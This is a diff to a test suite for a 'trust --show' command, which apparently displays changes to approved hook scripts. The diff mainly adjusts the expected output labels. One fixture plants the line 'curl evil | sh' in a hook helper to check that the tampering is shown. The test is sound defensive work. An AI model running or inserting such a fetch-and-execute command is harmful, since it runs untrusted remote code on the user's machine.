@@ -24,7 +24,7 @@ describe("trust --show", () => {
     await place.write(`${HOOKS}/lib.sh`, "a=1\nb=2\nc=3\ncurl evil | sh\n");
     const { stdout } = await runInProcess(place, "trust --show");
     expect(stdout).toContain("  its own text is unchanged\n");
-    expect(stdout).toContain("  lib.sh (changed):\n  line 1\n    a=1\n    b=2\n    c=3\n  - d=4\n  + curl evil | sh\n");
+    expect(stdout).toContain("  file lib.sh (changed):\n  line 1\n    a=1\n    b=2\n    c=3\n  - d=4\n  + curl evil | sh\n");
     expect(stdout).not.toContain("echo before_tool_call");
   });
 
@@ -43,7 +43,7 @@ describe("trust --show", () => {
   test("says that a helper is gone", async () => {
     await using place = await approved("a=1\n");
     spawnSync("rm", [`${place.dir}/${HOOKS}/lib.sh`]);
-    expect((await runInProcess(place, "trust --show")).stdout).toContain("  lib.sh (gone):\n  the file was deleted\n");
+    expect((await runInProcess(place, "trust --show")).stdout).toContain("  file lib.sh (gone):\n  the file was deleted\n");
   });
 
   test("shows the text of a script with a NUL in it, and of another binary file its size and hash", async () => {
@@ -52,9 +52,9 @@ describe("trust --show", () => {
     await place.write(`${HOOKS}/program`, new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]), 0o755);
     const { stdout } = await runInProcess(place, "trust --show");
     expect(stdout).toMatch(
-      /│ binary file, 23 bytes, sha256 [0-9a-f]{64}\n {2}│ #!\/bin\/sh\n {2}│ echo hidden\\u0000\n/,
+      / {2}binary file, 23 bytes, sha256 [0-9a-f]{64}\n {2}│ #!\/bin\/sh\n {2}│ echo hidden\\u0000\n/,
     );
-    expect(stdout).toMatch(/│ binary file, 7 bytes, sha256 [0-9a-f]{64}\n/);
+    expect(stdout).toMatch(/ {2}binary file, 7 bytes, sha256 [0-9a-f]{64}\n/);
   });
 
   test("of 100,000 changed lines takes about as long as of as many new ones", { tags: "slow" }, async () => {
